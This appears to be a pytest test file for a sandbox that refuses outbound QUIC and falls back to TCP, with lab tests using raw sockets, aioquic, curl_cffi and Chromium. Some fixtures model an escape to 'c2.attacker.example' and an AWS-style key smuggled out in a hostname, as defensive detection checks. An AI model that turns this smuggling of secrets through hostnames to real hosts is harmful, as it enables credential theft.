"""QUIC from inside a jail: refused before a client can wait, named in the evidence, no way out."""

from __future__ import annotations

import json
import shutil
import statistics
from collections.abc import Iterator
from typing import Any

import pytest

from interceptor.scan.ruleset import example
from tests.lab import Lab
from tests.lab.clients import PYTHON, install_python_clients, no_environment, python
from tests.lab.programs import clients_environment
from tests.lab.world import DEV_HOME
from tests.quic_packets import crypto, hello, long_packet, opening, pieces

pytestmark = [pytest.mark.lab, pytest.mark.timeout(180)]

HTTP = "QUIC; HTTP/2 or HTTP/1.1 over TCP will be used instead"

# Each line of the input is a datagram, or several in one breath; their answer is awaited.
RAW = """
import json, socket, sys, time
host, port, family = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
place = socket.getaddrinfo(host, port, family or 0, socket.SOCK_DGRAM)[0]
answers, taken = [], []
for line in sys.stdin:
    datagrams = [bytes.fromhex(word) for word in line.split()]
    with socket.socket(place[0], socket.SOCK_DGRAM) as client:
        client.settimeout(3)
        client.connect(place[4])
        begin = time.perf_counter()
        try:
            for data in datagrams:
                client.send(data)
            answers.append(client.recv(2048).hex())
        except OSError as error:
            answers.append(type(error).__name__)
        taken.append(time.perf_counter() - begin)
print(json.dumps({"address": place[4][0], "answers": answers, "taken": taken}))
"""


def raw(host: str, port: int = 443, family: int = 0) -> list[str]:
    return [PYTHON, "-c", RAW, host, str(port), str(family)]


def lines(*exchanges: bytes | list[bytes]) -> bytes:
    """The input of RAW."""
    every = ([one] if isinstance(one, bytes) else one for one in exchanges)
    return b"\n".join(b" ".join(data.hex().encode() for data in one) for one in every)


def quic_events(events: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [event for event in events if event.get("kind") == "quic"]


@pytest.mark.parametrize("family", [2, 10], ids=["IPv4", "IPv6"])
def test_refused_in_less_than_five_milliseconds(clean_lab: Lab, family: int) -> None:
    datagrams = [opening(dcid=number.to_bytes(8)) for number in range(31)]
    done = clean_lab.jail(raw("api.example.com", family=family), input=lines(*datagrams))
    seen = json.loads(done.text)
    for data, answer in zip(datagrams, seen["answers"], strict=True):
        assert answer[:10] == "c000000000", "no version negotiation"
        assert bytes.fromhex(answer)[-12:-4] == data[6:14]
    assert statistics.median(seen["taken"]) < 0.005, sorted(seen["taken"])
    first, *counts = quic_events(done.events())
    assert (first["host"], first["address"], first["port"], first["scheme"]) == (
        "api.example.com",
        seen["address"],
        443,
        "quic",
    )
    assert (first["action"], first["reason"], first["detail"]) == (
        *("block", "protocol_refused"),
        HTTP,
    )
    assert sum(int(event["detail"].split("(")[1].split()[0]) for event in counts) == 30
    assert clean_lab.oracle.records() == []


def test_without_us_the_same_program_reaches_the_internet(clean_lab: Lab) -> None:
    clean_lab.run(raw("203.0.113.9"), user="dev", input=lines(opening()))
    assert clean_lab.oracle.wait_for("203.0.113.9", 443, protocol="udp")
    clean_lab.clear()
    done = clean_lab.jail(raw("203.0.113.9"), input=lines(opening("c2.attacker.example")))
    assert json.loads(done.text)["answers"][0].startswith("c000000000")
    (event,) = quic_events(done.events())
    assert (event["host"], event["address"]) == ("c2.attacker.example", "203.0.113.9")
    assert event["reason"] == "address_reserved"  # policy's own word comes first
    assert clean_lab.oracle.records() == []


def test_a_hello_in_two_datagrams_and_one_that_ends_too_soon(clean_lab: Lab) -> None:
    cut = pieces(hello(padding=1200), 10, 500, 900, 1300)
    both = [
        long_packet(cut[3] + cut[0], size=1200, number=1),
        long_packet(cut[4] + cut[1] + cut[2], size=1200, number=2),
    ]
    other = long_packet(crypto(b"rest", 4), dcid=b"another1", size=1200)
    done = clean_lab.jail(raw("api.example.com"), input=lines(both, other))
    taken = json.loads(done.text)["taken"]
    assert taken[1] < 1
    assert [event["detail"] for event in quic_events(done.events())] == [
        HTTP,
        "QUIC whose ClientHello is not whole",
    ]


def test_a_secret_in_the_name_is_found_and_not_written_down(clean_lab: Lab) -> None:
    secret = example(["AK", "IA", "{upper32:16}"], "quic").decode()
    data = opening(f"{secret}.attacker.example")
    done = clean_lab.jail(raw("api.example.com"), input=lines(data))
    (event,) = quic_events(done.events())
    assert event["reason"] == "secret_in_name"
    assert secret.lower() not in json.dumps(done.evidence).lower()
    assert clean_lab.oracle.records() == []


def test_another_name_than_the_one_that_was_resolved(clean_lab: Lab) -> None:
    done = clean_lab.jail(raw("api.example.com"), input=lines(opening("www.example.com")))
    (event,) = quic_events(done.events())
    assert (event["host"], event["reason"]) == ("api.example.com", "name_mismatch")


def test_dns_over_quic(clean_lab: Lab) -> None:
    data = opening("dns.example.com", "doq")
    done = clean_lab.jail(raw("dns.example.com", 853), input=lines(data))
    assert json.loads(done.text)["answers"][0].startswith("c000000000")
    (event,) = quic_events(done.events())
    assert (event["port"], event["reason"]) == (853, "protocol_refused")
    assert event["detail"].startswith("DNS over QUIC")


def test_what_is_no_quic_is_refused_by_the_kernel_as_ever(clean_lab: Lab) -> None:
    done = clean_lab.jail(raw("api.example.com"), input=lines(b"\x16\xfe\xfd", opening()[:1199]))
    seen = json.loads(done.text)
    assert seen["answers"] == ["PermissionError", "PermissionError"]
    assert max(seen["taken"]) < 0.1
    assert quic_events(done.events()) == []


def test_the_evidence_names_the_resolver_that_was_asked(clean_lab: Lab) -> None:
    """Datagrams to port 53 keep their address too."""
    query = b"\0\1\1\0\0\1\0\0\0\0\0\0\3api\7example\3com\0\0\1\0\1"
    done = clean_lab.jail(raw("203.0.113.53", 53), input=lines(query))
    assert json.loads(done.text)["answers"][0].startswith("00018")
    events = [event for event in done.events() if event.get("kind") == "dns_query"]
    assert [(event["host"], event["address"]) for event in events] == [
        ("api.example.com", "203.0.113.53")
    ]


# -- clients ------------------------------------------------------------------------------------


def _need(lab: Lab, package: str) -> None:
    """Skip without a package of the clients' environment."""
    if reason := no_environment():
        pytest.skip(reason)
    if not list(clients_environment().glob(f"lib/python3.*/site-packages/{package}")):
        pytest.fail(f"{package} is not in the clients' environment: scripts/test makes it")
    install_python_clients(lab)


AIOQUIC = """
import asyncio, json, time
from aioquic.asyncio.client import connect
from aioquic.quic.configuration import QuicConfiguration

async def main():
    told = QuicConfiguration(is_client=True, alpn_protocols=["h3"])
    begin = time.perf_counter()
    try:
        async with connect("api.example.com", 443, configuration=told) as client:
            await client.ping()
        said = "connected"
    except (ConnectionError, asyncio.TimeoutError) as error:
        said = type(error).__name__
    print(json.dumps([said, time.perf_counter() - begin]))

asyncio.run(main())
"""


def test_aioquic_knows_at_once(clean_lab: Lab) -> None:
    _need(clean_lab, "aioquic")
    done = clean_lab.jail(python(AIOQUIC, ""))
    said, seconds = json.loads(done.text)
    assert said == "ConnectionError", done.errors
    assert seconds < 0.2
    assert [event["detail"] for event in quic_events(done.events())] == [HTTP]


CURL = """
import json, sys, time
from curl_cffi import CurlHttpVersion, requests

bundle = "/etc/ssl/certs/ca-certificates.crt"
for version in ("V1_1", "V3", "V3", "V3", "V3", "V3ONLY"):
    begin = time.perf_counter()
    try:
        got = requests.get(url, http_version=CurlHttpVersion[version], verify=bundle, timeout=20)
        said = got.status_code
    except requests.exceptions.RequestException as error:
        said = type(error).__name__
    print(json.dumps([version, said, time.perf_counter() - begin]))
"""


def test_curl_falls_back_to_tcp_as_if_it_had_not_tried(clean_lab: Lab) -> None:
    """`curl --http3`, and `--http3-only`, which has nothing to fall back on and must not hang."""
    _need(clean_lab, "curl_cffi")
    done = clean_lab.jail(python(CURL, "https://api.example.com/get?client=curl"))
    seen = [json.loads(line) for line in done.text.splitlines()]
    assert [said for _, said, _ in seen] == [*[200] * 5, "ConnectionError"], done.errors
    # Unanswered, each would wait for 0.2 s; a busy machine may take as long, but not each time.
    assert min(took for _, _, took in seen[2:5]) < seen[0][2] + 0.1
    assert seen[5][2] < 2
    assert len(clean_lab.requests("api.example.com")) == 5
    assert quic_events(done.events())[0]["detail"] == HTTP


# A browser that has learned of HTTP/3 before it came into the jail.
LEARN = """
import http.server, json, pathlib, ssl, subprocess, sys, threading

class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Alt-Svc", 'h3=":443"; ma=86400')
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")
    def log_message(self, *arguments):
        pass

home = pathlib.Path.home()
store = home / ".pki/nssdb"
store.mkdir(parents=True)
certutil = ["certutil", "-d", f"sql:{store}"]
subprocess.run([*certutil, "-N", "--empty-password"], check=True)
add = [*certutil, "-A", "-t", "C,,", "-n", "lab", "-i", "/etc/ssl/certs/ca-certificates.crt"]
subprocess.run(add, check=True)
server = http.server.ThreadingHTTPServer(("127.0.0.1", 9443), Handler)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(home / "leaf.pem")
server.socket = context.wrap_socket(server.socket, server_side=True)
threading.Thread(target=server.serve_forever, daemon=True).start()
rules = "--host-resolver-rules=MAP www.example.com:443 127.0.0.1:9443"
subprocess.run([*sys.argv[1:], rules, "https://www.example.com/"], check=True, timeout=60)
state = home / "profile/Default/Network Persistent State"
known = json.loads(state.read_text())
properties = known["net"]["http_server_properties"]
properties.pop("broken_alternative_services", None)  # it has tried, out there
assert properties["servers"][0]["alternative_service"], known
state.write_text(json.dumps(known))
"""
HOME = f"{DEV_HOME}/http3"
"""Where that browser lived; its profile comes along."""
CHROMIUM = [
    *("chromium", "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"),
    *("--disable-component-update", f"--user-data-dir={HOME}/profile", "--timeout=20000"),
    "--dump-dom",
]


@pytest.fixture
def browser(clean_lab: Lab) -> Iterator[Lab]:
    """A lab whose user has a Chromium that knows of HTTP/3; nothing of it remains."""
    for program in ("chromium", "certutil"):
        if not shutil.which(program):
            pytest.skip(f"{program} is not installed")
    store, home = clean_lab.path(f"{DEV_HOME}/.pki"), clean_lab.path(HOME)
    had_store = store.exists()
    clean_lab.run(["mkdir", "-p", f"{DEV_HOME}/.pki/nssdb", HOME], user="dev")
    (home / "leaf.pem").write_bytes(clean_lab.leaf("www.example.com"))
    (home / "leaf.pem").chmod(0o644)
    learn = [PYTHON, "-c", LEARN, *CHROMIUM]
    learned = clean_lab.run(learn, user="dev", cwd=HOME, env={"HOME": HOME}, timeout=90)
    assert learned.returncode == 0, learned.stderr
    clean_lab.clear()
    yield clean_lab
    shutil.rmtree(home)
    if not had_store:
        shutil.rmtree(store)


def test_chromium_that_knows_of_http3_loads_the_page_over_tcp(browser: Lab) -> None:
    url = "https://www.example.com/get?client=chromium"
    log = f"{HOME}/net.json"
    done = browser.jail([*CHROMIUM, f"--log-net-log={log}", url], timeout=90)
    assert '"target": "/get?client=chromium"' in done.text, done.errors
    assert browser.requests("www.example.com")[0].target == "/get?client=chromium"
    assert ("www.example.com", HTTP) in [
        (event["host"], event["detail"]) for event in quic_events(done.events())
    ]
    sent, closed = _session(browser.path(log).read_text("utf-8"))
    # Unanswered, it tries for four seconds. A refusal takes 10 ms, more on a loaded machine.
    assert closed - sent < 1_000, "milliseconds from the last packet of its hello"


def _session(text: str) -> tuple[int, int]:
    """When Chromium sent the last packet of its first QUIC session, and when it gave that up."""
    text = text.rstrip()  # an end is missing when it was killed
    log = json.loads(text if text.endswith("}") else text.rstrip(",") + "]}")
    names = {number: name for name, number in log["constants"]["logEventTypes"].items()}
    sent = 0
    for event in log["events"]:
        name = names[event["type"]]
        if name == "QUIC_SESSION_PACKET_SENT":
            sent = int(event["time"])
        elif name == "QUIC_SESSION_CLOSED":
            return sent, int(event["time"])
    raise AssertionError("Chromium has closed no QUIC session")
